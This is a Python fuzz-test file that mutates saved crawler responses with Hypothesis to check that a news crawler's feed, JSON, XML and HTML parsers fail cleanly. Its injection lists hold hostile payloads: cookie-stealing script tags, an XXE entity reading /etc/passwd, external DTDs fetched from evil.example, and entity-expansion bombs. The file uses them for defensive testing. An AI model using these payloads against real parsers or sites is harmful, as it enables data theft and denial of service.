"""Fuzzing the parsers with malformed inputs (issue #9, abuse).

Every saved real response of every source (feeds, JSON APIs, XML notices, listing pages and
the article pages they link to) is mutated by Hypothesis: truncated, bytes flipped, entities
and markup injected, nested thousands deep, given megabyte attributes. Each mutant goes
through the real spider callback of its source, and the generic feed, JSON API and listing
spiders get the same treatment. The promise:

- a callback never raises: a body the source does not publish becomes a fatal ``payload``
  problem (the crawler's own ``PayloadError``), a bad entry an ``item`` problem;
- whatever it yields is a request or an item that validates as ``ItemRecord`` with an
  ``http(s)`` URL;
- it never hangs (Hypothesis' deadline, and pytest-timeout behind it).

The plain parse functions (``parse_xml``, ``parse_feed``, ``decode_json``, ``html_selector``)
raise ``PayloadError`` and nothing else. Example counts come from the Hypothesis profile
``IPRWATCH_FUZZ_PROFILE`` (``ci`` by default; ``thorough`` for a long local run).
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from scrapy import Spider
from scrapy.http import Request, Response
from scrapy.responsetypes import responsetypes
from scrapy.utils.test import get_crawler
from w3lib.url import canonicalize_url

from core.types import ItemRecord
from crawlers.checks import is_web_url
from crawlers.config import SourceConfig
from crawlers.errors import PayloadError
from crawlers.payloads import decode_json, parse_feed, parse_xml
from crawlers.registry import load_sources
from crawlers.replay import is_companion
from crawlers.settings import build_scrapy_settings
from crawlers.spiders.base import SourceSpider
from crawlers.spiders.catalog import build_spider_class, spider_class
from crawlers.spiders.fields import html_selector

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
PROFILE_ENV = "IPRWATCH_FUZZ_PROFILE"

_COMMON: dict[str, Any] = {
    "database": None,  # no .hypothesis folder in the tree
    "derandomize": False,
    "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large],
    "deadline": timedelta(seconds=10),  # a hang fails; a loaded CI machine does not
}
settings.register_profile("ci", max_examples=25, **_COMMON)
settings.register_profile("quick", max_examples=5, **_COMMON)
settings.register_profile("thorough", max_examples=500, **_COMMON)
FUZZ = settings.get_profile(os.environ.get(PROFILE_ENV, "ci"))
BIG_FIXTURE = 1_000_000
"""Fixtures above this size (GPO's whole daily issue) get a fifth of the examples."""

INJECTIONS = [
    b"&lol;",
    b"&#0;",
    b"&#x110000;",
    b"&#xD800;",
    b"\x00",
    b"\xff\xfe",
    b"\xe2\x80",
    b"<![CDATA[",
    b"]]>",
    b"<!--",
    b"<script>alert(document.cookie)</script>",
    b'<img src=x onerror="alert(1)">',
    b'<a href="javascript:alert(1)">x</a>',
    b'"',
    b"\\u0000",
    b"NaN",
    b"1e999999",
    b'{"results": 1}',
    b"<?xml-stylesheet href='http://evil.example/x.xsl'?>",
]
DTD_ATTACKS = [
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
]
NESTING = [b"<div>", b"<item>", b"<b><i>", b"[", b'{"a":', b"<![CDATA[<"]


@dataclass(frozen=True)
class Mutation:
    """One way of breaking a body; its repr says what was done (not the megabytes done)."""

    kind: str
    at: int = 0
    text: bytes = b""
    repeat: int = 1
    flips: tuple[tuple[int, int], ...] = ()

    def __repr__(self) -> str:
        shown = self.text[:40] + (b"..." if len(self.text) > 40 else b"")
        return f"Mutation({self.kind} at {self.at}: {shown!r} x{self.repeat}, flips={self.flips})"

    def apply(self, body: bytes) -> bytes:
        """The broken body."""
        at = min(self.at, len(body))
        if self.kind == "truncate":
            return body[:at]
        if self.kind == "flip":
            data = bytearray(body)
            for position, value in self.flips:
                if data:
                    data[position % len(data)] = value
            return bytes(data)
        if self.kind == "dtd" and body.lstrip().startswith(b"<?xml"):
            at = body.find(b"?>") + 2
        return body[:at] + self.text * self.repeat + body[at:]


def mutants(body: bytes) -> st.SearchStrategy[Mutation]:
    """Ways of breaking a real body: truncation, byte flips, injected entities and markup,
    hostile DTDs, deep nesting and huge attributes."""
    where = st.integers(0, len(body))
    return st.one_of(
        st.builds(Mutation, st.just("truncate"), where),
        st.builds(
            Mutation,
            st.just("flip"),
            flips=st.lists(
                st.tuples(st.integers(0, len(body)), st.integers(0, 255)), min_size=1, max_size=30
            ).map(tuple),
        ),
        st.builds(
            Mutation, st.just("inject"), where, st.sampled_from(INJECTIONS) | st.binary(max_size=64)
        ),
        st.builds(Mutation, st.just("dtd"), st.just(0), st.sampled_from(DTD_ATTACKS)),
        st.builds(
            Mutation, st.just("nest"), where, st.sampled_from(NESTING), st.integers(300, 20_000)
        ),
        st.builds(
            Mutation,
            st.just("attribute"),
            where,
            st.integers(10_000, 2_000_000).map(lambda n: b'<a title="' + b"A" * n + b'">'),
        ),
    )


# The cases: every saved response, through its source's spider ---------------------------


@dataclass(frozen=True)
class Case:
    """One saved response and how its source's spider reaches it."""

    source_id: str
    url: str
    body: Path
    meta_from: str | None = None  # the listing page whose entry links to this article page

    @property
    def name(self) -> str:
        return f"{self.source_id}/{self.body.name}"


def fixture_cases() -> list[Case]:
    """Every saved response under ``tests/fixtures`` (a listing folder: its start page and
    each article page it links to)."""
    cases: list[Case] = []
    for source_id in load_sources():
        for path in sorted((FIXTURES / source_id).glob("*")):
            if is_companion(path):
                continue
            if path.is_file():
                cases.append(Case(source_id, path.as_uri(), path))
                continue
            manifest = json.loads((path / "manifest.json").read_text(encoding="utf-8"))
            urls = list(manifest)
            cases.append(Case(source_id, urls[0], path / manifest[urls[0]]))
            cases += [Case(source_id, u, path / manifest[u], urls[0]) for u in urls[1:]]
    return cases


GENERIC = {
    "generic_feed": ({"spider": "feed"}, FIXTURES / "wipo_news" / "wipo_pressroom_rss_2025-03.xml"),
    "generic_json_api": (
        {
            "spider": "json_api",
            "json_api": {
                "fields": {
                    "key": "document_number",
                    "title": "title",
                    "url": "html_url",
                    "summary": "abstract",
                    "body_html": "excerpts",
                    "published_at": "publication_date",
                }
            },
        },
        FIXTURES / "federal_register" / "fr_api_documents_search_newest_2024_page1.json",
    ),
    "generic_listing": (
        {
            "spider": "listing",
            "listing": {
                "entries": "div.news-list table tr",
                "link": "xpath:./td[2]/a/@href",
                "entry": {"title": "xpath:./td[2]/a", "date": "xpath:./td[3]"},
                "date_formats": ["%d/%m/%Y"],
            },
        },
        FIXTURES / "india_cgpdtm_notices" / "news_2025-06" / "news.htm",
    ),
}


def generic_class(source_id: str) -> type[SourceSpider]:
    spider, _ = GENERIC[source_id]
    config = SourceConfig.model_validate(
        {
            "id": source_id,
            "title": {"zh": "通用", "en": "Generic"},
            "publisher": "fuzz",
            "jurisdictions": ["US"],
            "language": "en",
            "start_urls": ["https://example.org/start"],
            "schedule": "daily",
            "kind": "news",
            "expected": {"min_items": 1, "max_items": 100},
            **spider,
        }
    )
    return build_spider_class(config)


def new_spider(cls: type[SourceSpider], replay: Path | None) -> SourceSpider:
    crawler = get_crawler(cls, build_scrapy_settings())
    spider = cls.from_crawler(crawler)
    assert isinstance(spider, SourceSpider)
    spider.replay_path = replay  # as ``-a replay=`` sets it (the settings are frozen here)
    return spider


def response_for(url: str, body: bytes, request: Request) -> Response:
    """The response Scrapy would build for this body (class chosen by URL and content)."""
    cls = responsetypes.from_args(url=url, body=body)
    return cls(url=url, body=body, request=request)


def callback_for(cls: type[SourceSpider], case: Case) -> Callable[[bytes], Iterator[Any]]:
    """What parsing a mutant of the case's body runs: the spider's own callback for it."""
    if case.meta_from is None:

        def parse_page(body: bytes) -> Iterator[Any]:
            replay = case.body if case.url.startswith("file:") else None
            spider = new_spider(cls, replay)
            request = Request(case.url, meta={"replay_file": str(case.body)} if replay else {})
            yield from spider.parse(response_for(case.url, body, request))
            yield from problems_of(spider)

        return parse_page
    request = requests_in_site(cls, case.body.parent, case.meta_from)[canonicalize_url(case.url)]

    def parse_article(body: bytes) -> Iterator[Any]:
        spider = new_spider(cls, None)
        callback = getattr(spider, request.callback.__name__)  # type: ignore[union-attr]
        yield from callback(response_for(case.url, body, request))
        yield from problems_of(spider)

    return parse_article


def requests_in_site(cls: type[SourceSpider], folder: Path, start: str) -> dict[str, Request]:
    """Every request a crawl of a saved listing site makes, by canonical URL, found by
    following the unmutated pages from the start page (as a replay does)."""
    manifest = {
        canonicalize_url(url): folder / name
        for url, name in json.loads((folder / "manifest.json").read_text(encoding="utf-8")).items()
    }
    first = new_spider(cls, None).request(start)
    found: dict[str, Request] = {canonicalize_url(start): first}
    queue = [first]
    while queue:
        request = queue.pop(0)
        saved = manifest.get(page_of(request))
        if saved is None:
            continue
        spider = new_spider(cls, None)
        callback = getattr(spider, request.callback.__name__) if request.callback else spider.parse
        for result in callback(response_for(request.url, saved.read_bytes(), request)):
            key = page_of(result) if isinstance(result, Request) else None
            if key is not None and key not in found:
                found[key] = result
                queue.append(result)
    return found


def page_of(request: Request) -> str:
    """The page a request asks for (a POSTed list page names it in ``page_url``)."""
    return canonicalize_url(request.meta.get("page_url") or request.url)


@dataclass(frozen=True)
class Problems:
    """The problems a spider recorded, yielded last by the callbacks above."""

    kinds: list[tuple[str, bool]]


def problems_of(spider: Spider) -> Iterator[Problems]:
    assert isinstance(spider, SourceSpider)
    yield Problems([(p.kind, p.fatal) for p in spider.problems])


def assert_parses_or_refuses(parse: Callable[[bytes], Iterator[Any]], body: bytes) -> None:
    """The promise: only requests, valid items and documented problems; no exception."""
    results = list(parse(body))
    problems = results.pop()
    assert isinstance(problems, Problems)
    for result in results:
        if isinstance(result, Request):
            continue
        item = ItemRecord.model_validate(result)
        assert item.title.strip()
        assert item.url is not None and is_web_url(item.url), item.url
    for kind, fatal in problems.kinds:
        assert kind in ("payload", "item", "date", "unmapped", "empty", "limit"), kind
        assert kind == "payload" or not fatal, (kind, fatal)


def fuzz(parse: Callable[[bytes], Iterator[Any]], body: bytes) -> None:
    examples = FUZZ.max_examples // 5 if len(body) > BIG_FIXTURE else FUZZ.max_examples

    @settings(FUZZ, max_examples=max(examples, 1))
    @given(mutants(body))
    def run(mutation: Mutation) -> None:
        assert_parses_or_refuses(parse, mutation.apply(body))

    run()


CASES = fixture_cases()


def test_every_source_and_every_saved_page_is_fuzzed() -> None:
    assert {c.source_id for c in CASES} == set(load_sources())
    assert sum(1 for c in CASES if c.meta_from) >= 10, "article pages are fuzzed too"


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_a_spider_turns_any_mutant_of_its_pages_into_items_or_a_named_problem(
    case: Case,
) -> None:
    parse = callback_for(spider_class(case.source_id), case)
    body = case.body.read_bytes()
    assert_parses_or_refuses(parse, body)  # the real page itself parses cleanly
    fuzz(parse, body)


@pytest.mark.parametrize("source_id", list(GENERIC))
def test_a_generic_spider_turns_any_mutant_into_items_or_a_named_problem(source_id: str) -> None:
    _, fixture = GENERIC[source_id]
    url = "https://example.org/start"
    case = Case(source_id, url, fixture)
    parse = callback_for(generic_class(source_id), case)
    body = fixture.read_bytes()
    unchanged = list(parse(body))
    assert any(isinstance(r, dict) for r in unchanged), "the real page gives items"
    fuzz(parse, body)


# The plain parse functions raise PayloadError and nothing else ---------------------------


PLAIN: dict[str, tuple[Callable[[bytes, str], Any], Path]] = {
    "parse_xml": (
        parse_xml,
        FIXTURES / "eu_official_journal" / "cellar_notice_object_work_celex_32018R0196.xml",
    ),
    "parse_feed": (parse_feed, FIXTURES / "euipo_news" / "euipo_news_rss_2025-06.xml"),
    "decode_json": (
        decode_json,
        FIXTURES / "uspto_ptab" / "ptab_api_proceedings_aia_trials_page1.json",
    ),
    "html_selector": (
        lambda body, location: html_selector(
            response_for("https://example.org/", body, Request("https://example.org/")), location
        ),
        FIXTURES / "kipo_news" / "press_2025-06" / "press_view_9901.html",
    ),
}


@pytest.mark.parametrize("name", list(PLAIN))
def test_a_plain_parse_function_raises_only_its_payload_error(name: str) -> None:
    function, fixture = PLAIN[name]

    body = fixture.read_bytes()

    @settings(FUZZ)
    @given(mutants(body))
    def run(mutation: Mutation) -> None:
        try:
            function(mutation.apply(body), "fuzzed")
        except PayloadError as exc:
            assert str(exc).startswith("fuzzed: ") and "\n" not in str(exc)

    run()


def test_the_fuzzer_fails_a_parser_that_breaks_its_promise() -> None:
    body = (FIXTURES / "wipo_news" / "wipo_pressroom_rss_2025-03.xml").read_bytes()

    def careless(mutant: bytes) -> Iterator[Any]:
        if mutant != body:
            raise KeyError("an exception that is not the crawler's own")
        yield Problems([])

    with pytest.raises(KeyError):
        fuzz(careless, body)
